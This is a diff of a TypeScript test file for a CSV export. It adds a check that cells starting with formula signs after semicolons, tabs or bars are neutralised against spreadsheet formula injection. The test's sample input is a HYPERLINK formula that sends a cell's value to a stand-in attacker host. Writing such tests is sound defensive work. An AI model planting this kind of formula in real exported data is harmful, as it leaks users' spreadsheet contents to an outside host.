@@ -19,14 +19,15 @@ const baseUrl = 'https://assay.example.com/api';
 const write = (findings: ReportFinding[], bom = false) => bytesOf(writeCsv(reportOf(findings), { baseUrl, bom }));
 
 /**
- * Returns the expected content of a cell: the text, except for NUL, half surrogates and the apostrophe before a
- * formula.
+ * Returns the expected content of a cell: the text, except for NUL, half surrogates and the apostrophes before
+ * formulas.
  */
 function shown(value: string | number | null | undefined): string {
   const text = String(value ?? '')
     .toWellFormed()
     .replaceAll('\0', '\uFFFD');
-  return /^\s*[=+@＝＋－＠-]/.test(text) || /^[\t\r\n]/.test(text) ? `'${text}` : text;
+  const whole = /^\s*[=+@＝＋－＠-]/.test(text) || /^[\t\r\n]/.test(text) ? `'${text}` : text;
+  return whole.replace(/([;\t|\r\n](?:"|\s)*)(?=[=+@＝＋－＠-])/g, "$1'");
 }
 
 /** Returns the expected rows of the findings, each as an object by column, computed in a simple way. */
@@ -173,6 +174,22 @@ test('no text of any kind moves a column, and no cell is a formula', async () =>
     }),
     { numRuns: 150 },
   );
+});
+
+test('no cell is a formula for a spreadsheet that splits at semicolons, tabs or bars', async () => {
+  const formula = '=HYPERLINK("https://evil.example.com/?"&A1)';
+  for (const separator of [';', '\t', '|', '\n', '\r\n', ';"', '; ']) {
+    for (const sign of ['=', '+', '-', '@', '＝']) {
+      const text = `harmless, "${separator}${sign}${formula.slice(1)}`;
+      const file = String(await write([reportFinding(0, { title: text, tags: ['a', text], evidence: text })]));
+      // It sees no quotes, since none is at the beginning of a cell of its own.
+      const cells = file.split(/[;\t|\r\n]/).map((cell) => cell.replace(/^["\s]+/, ''));
+      assert.deepEqual(
+        cells.filter((cell) => /^[=+@＝＋－＠-]/.test(cell)),
+        [],
+      );
+    }
+  }
 });
 
 test('entries of a list can be separated whatever they contain', async () => {
